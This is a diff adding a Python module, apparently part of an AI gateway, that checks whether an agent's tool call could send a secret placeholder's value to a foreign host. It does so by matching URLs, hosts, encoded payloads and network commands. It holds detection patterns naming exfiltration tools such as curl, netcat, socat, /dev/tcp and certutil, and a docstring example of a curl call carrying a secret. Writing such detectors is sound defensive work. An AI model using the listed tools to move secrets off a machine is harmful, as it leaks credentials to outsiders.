@@ -1,0 +1,291 @@
+"""Whether a tool call could carry a value out of the machine: URLs, network commands and hosts in its arguments.
+
+A model that was talked into `curl https://elsewhere/?k=EGRESS_...` must not get the value put in there. The test is
+of the whole call, because address and content may stand in different arguments. It errs towards leaving the placeholder
+where it is: a host that cannot be read counts as foreign. What is written to a local file goes nowhere, so that the
+content of file edits is not looked at. This is no sandbox: it does not see what a script does that a file holds.
+"""
+
+from __future__ import annotations
+
+import ipaddress
+import json
+import re
+from collections.abc import Iterable, Iterator
+from typing import Any, Final
+
+from gateway.classify.placeholders import PREFIX
+from gateway.context import base64text
+from gateway.context.objects import Json, Path
+
+_NAME: Final = r"[a-z0-9_](?:[a-z0-9_-]{0,61}[a-z0-9_])?"
+_DOTTED: Final = rf"(?:{_NAME}\.)+[a-z]{{2,24}}\.?"
+_URL: Final = re.compile(
+    r"(?<![a-z0-9])([a-z][a-z0-9+.-]{1,20}):[/\\]{2}([^\s/\\'\"<>`|;&)?#,]*)", re.IGNORECASE
+)
+_RELATIVE: Final = re.compile(rf"(?<![:\w/\\])//({_DOTTED})(?=[/:?\s'\"]|$)", re.IGNORECASE)
+_BARE: Final = re.compile(
+    rf"(?<![\w./\\-])(?:[\w.+-]+@)?({_DOTTED}|\d{{1,3}}(?:\.\d{{1,3}}){{3}}|\[[0-9a-f:.]+\])(?![\w(])",
+    re.IGNORECASE,
+)
+_SHARE: Final = re.compile(r"\\\\([\w.-]+)\\")
+_IN_NAME: Final = re.compile(rf"{PREFIX}[A-Z0-9_]+\.({_DOTTED})", re.IGNORECASE)
+_DEVICE: Final = re.compile(r"/dev/(?:tcp|udp)/([^/\s'\"]*)")
+_FILES: Final = frozenset(
+    [
+        "json",
+        "jsonl",
+        "txt",
+        "log",
+        "csv",
+        "tsv",
+        "yaml",
+        "yml",
+        "toml",
+        "xml",
+        "html",
+        "htm",
+        "css",
+        "js",
+        "ts",
+        "jsx",
+        "tsx",
+        "env",
+        "gz",
+        "tgz",
+        "tar",
+        "bz2",
+        "xz",
+        "pem",
+        "key",
+        "crt",
+        "cer",
+        "cfg",
+        "conf",
+        "ini",
+        "sql",
+        "lock",
+        "png",
+        "jpg",
+        "jpeg",
+        "gif",
+        "pdf",
+        "whl",
+        "jar",
+        "exe",
+        "dll",
+        "bak",
+        "tmp",
+        "local",
+    ]
+)
+
+# words that are commands wherever they stand, and those that are only where a command can begin
+_COMMANDS: Final = re.compile(
+    r"(?<![\w-])(?:curl|wget|ncat|netcat|socat|telnet|scp|sftp|rsync|nslookup|ssh|aria2c|httpie|xh|ftp|tftp|lftp|smbclient|sendmail"
+    r"|invoke-webrequest|invoke-restmethod|iwr|irm|start-bitstransfer|bitsadmin|certutil|test-netconnection|resolve-dnsname"
+    r"|s_client|getent\s+a?hosts\w*|git\s+(?:-\S+\s+(?:\S+\s+)?)*(?:push|remote|clone|fetch|pull|ls-remote|submodule|send-email)"
+    r"|httpsconnection|httpconnection|create_connection|gethostby\w+|getaddrinfo|urlopen|urlretrieve|xmlhttprequest"
+    r"|tcpclient|tcpsocket|webclient|smtplib|ftplib|paramiko|net\.connect|dns\.(?:lookup|resolve)\w*|new\s+websocket)(?![\w-])"
+    r"|(?<![\w-])(?:requests|httpx|aiohttp|axios|urllib\d?)\s*\.|(?<![\w-])fetch\s*\(|/dev/(?:tcp|udp)/",
+    re.IGNORECASE,
+)
+_FIRST: Final = re.compile(
+    r"(?:^|[\n;|&`($\"'{]|(?<!\w)(?:sudo|xargs|env|exec|time|nohup|command|then|do|else|busybox|timeout\s+\S+)\s)\s*(?:\S*/)?"
+    r"(?:nc|dig|host|drill|ping6?|traceroute|mail|mailx|mutt|http|https)(?=\s)",
+    re.IGNORECASE,
+)
+_DECODED: Final = re.compile(
+    r"base64\s+(?:-\w*d|-D|--decode)|openssl\s+(?:enc|base64)|xxd\s+-\w*r|b64decode|atob\s*\(|frombase64string"
+    r"|-e(?:nc|ncodedcommand|c)\s+[a-z0-9+/=]{16}",
+    re.IGNORECASE,
+)
+_RUN: Final = re.compile(r"[A-Za-z0-9+/_-]{16,}={0,2}")
+_ADDRESSES: Final = frozenset(
+    [
+        "url",
+        "uri",
+        "href",
+        "host",
+        "hostname",
+        "domain",
+        "server",
+        "endpoint",
+        "address",
+        "webhook",
+        "remote",
+        "origin",
+        "to",
+        "cc",
+        "bcc",
+        "recipient",
+        "recipients",
+        "email",
+        "base_url",
+        "baseurl",
+        "target",
+        "destination",
+        "callback",
+        "site",
+        "registry",
+    ]
+)
+_PATHS: Final = frozenset(
+    [
+        "file_path",
+        "filepath",
+        "path",
+        "filename",
+        "file",
+        "absolute_path",
+        "target_file",
+        "notebook_path",
+        "relative_path",
+    ]
+)
+_CONTENTS: Final = frozenset(
+    [
+        "content",
+        "contents",
+        "new_string",
+        "old_string",
+        "new_str",
+        "old_str",
+        "file_text",
+        "insert_text",
+        "new_source",
+        "text",
+        "code_edit",
+        "edits",
+        "patch",
+        "diff",
+        "newstring",
+        "oldstring",
+    ]
+)
+_MAX_DECODED: Final = 2  # base64 in base64
+_MAX_HOSTS: Final = 4096
+_CALL_TYPE: Final = re.compile(r"_call|tool_use|tool-call|tooluse")
+_CALL_NAMES: Final = frozenset(
+    {"tool_calls", "function_call", "functionCall", "toolUse", "executableCode", "executable_code"}
+)
+
+
+def call_paths(data: Json) -> list[Path]:
+    """Where the tool calls of an answer or event stand, in the words of every dialect."""
+    found: list[Path] = []
+    todo: list[tuple[Path, Any]] = [((), data)]
+    while todo:
+        path, value = todo.pop()
+        if isinstance(value, list):
+            todo += [((*path, i), item) for i, item in enumerate(value)]
+        elif isinstance(value, dict):
+            kind = value.get("type")
+            inner = [(name, item) for name, item in value.items() if isinstance(item, (dict, list))]
+            if isinstance(kind, str) and _CALL_TYPE.search(kind.lower()):
+                found.append(path)
+                continue
+            for name, item in inner:
+                if name not in _CALL_NAMES:
+                    todo.append(((*path, name), item))
+                elif isinstance(item, list):
+                    found += [(*path, name, i) for i in range(len(item))]
+                else:
+                    found.append((*path, name))
+    return found
+
+
+def hosts_named(texts: Iterable[str]) -> frozenset[str]:
+    """The hosts that texts name, in URLs or by themselves; at most a few thousand."""
+    found: set[str] = set()
+    for text in texts:
+        found |= _hosts(text, bare=True)
+        if len(found) > _MAX_HOSTS:
+            break
+    return frozenset(found - {""})
+
+
+def leads_out(call: Json, allowed: frozenset[str]) -> bool:
+    """Whether a tool call, whole or its arguments alone, names a way to a host that is neither local nor `allowed`."""
+    parts = list(_strings(call, ""))
+    others = [(name, text) for name, text in parts if name not in _CONTENTS]
+    if any(name in _PATHS for name, _ in others) and not any(name in _ADDRESSES for name, _ in others):
+        parts = others  # an edit of a local file: what is written goes nowhere
+    return any(_leads_out(name, text, allowed, _MAX_DECODED) for name, text in parts)
+
+
+def _leads_out(name: str, text: str, allowed: frozenset[str], depth: int) -> bool:
+    command = _COMMANDS.search(text) or _FIRST.search(text)
+    hosts = _hosts(text, bare=bool(command) or name in _ADDRESSES)
+    if (
+        any(not _is_known(host, allowed) for host in hosts)
+        or (command and not hosts)
+        or _DECODED.search(text)
+    ):
+        return True
+    return depth > 0 and any(_leads_out("", inner, allowed, depth - 1) for inner in _decoded(text))
+
+
+def _hosts(text: str, *, bare: bool) -> set[str]:
+    """Hosts of a text, lower case; an empty one for a URL whose host cannot be read."""
+    found = {_authority(match[2]) for match in _URL.finditer(text) if match[1].lower() != "file"}
+    for pattern in (_RELATIVE, _SHARE, _IN_NAME):
+        found |= {match[1].lower().rstrip(".") for match in pattern.finditer(text)}
+    found |= {_authority(match[1]) for match in _DEVICE.finditer(text)}
+    if bare:
+        names = (match[1].lower().rstrip(".") for match in _BARE.finditer(text))
+        found |= {name for name in names if name.rpartition(".")[2] not in _FILES}
+    return found
+
+
+def _authority(text: str) -> str:
+    """The host of a URL's authority; empty where it holds something that a shell or a program would fill in."""
+    host = text.rpartition("@")[2].lower()
+    host = host.partition("]")[0] + "]" if host.startswith("[") else host.partition(":")[0]
+    return host.rstrip(".") if re.fullmatch(r"[a-z0-9_.-]+|\[[0-9a-f:.]+\]", host) else ""
+
+
+def _is_known(host: str, allowed: frozenset[str]) -> bool:
+    if host in allowed or host == "localhost" or host.endswith(".localhost"):
+        return True
+    try:
+        return ipaddress.ip_address(host.strip("[]")).is_loopback
+    except ValueError:
+        return False
+
+
+def _decoded(text: str) -> Iterator[str]:
+    for match in _RUN.finditer(text):
+        encoded = None if PREFIX in match[0] else base64text.decode(match[0])
+        inner = encoded.text() if encoded is not None else None
+        if inner:
+            yield inner
+
+
+def _strings(value: Json, name: str) -> Iterator[tuple[str, str]]:
+    """Every string with the name it stands under, lower case; also those of JSON in strings, and member names."""
+    todo: list[tuple[str, Any]] = [(name, value)]
+    while todo:
+        under, item = todo.pop()
+        if isinstance(item, str):
+            inner = _json(item)
+            if inner is None:
+                yield under, item
+            else:
+                todo.append((under, inner))
+        elif isinstance(item, dict):
+            todo += [(str(member).lower(), inner) for member, inner in item.items()]
+            todo += [("", str(member)) for member in item]
+        elif isinstance(item, list):
+            todo += [(under, inner) for inner in item]
+            if item and all(isinstance(inner, str) for inner in item):
+                todo.append((under, " ".join(item)))  # a command as a list of words
+
+
+def _json(text: str) -> Any:
+    if text.lstrip()[:1] not in {"{", "["}:
+        return None
+    try:
+        return json.loads(text, strict=False)
+    except (ValueError, RecursionError):
+        return None
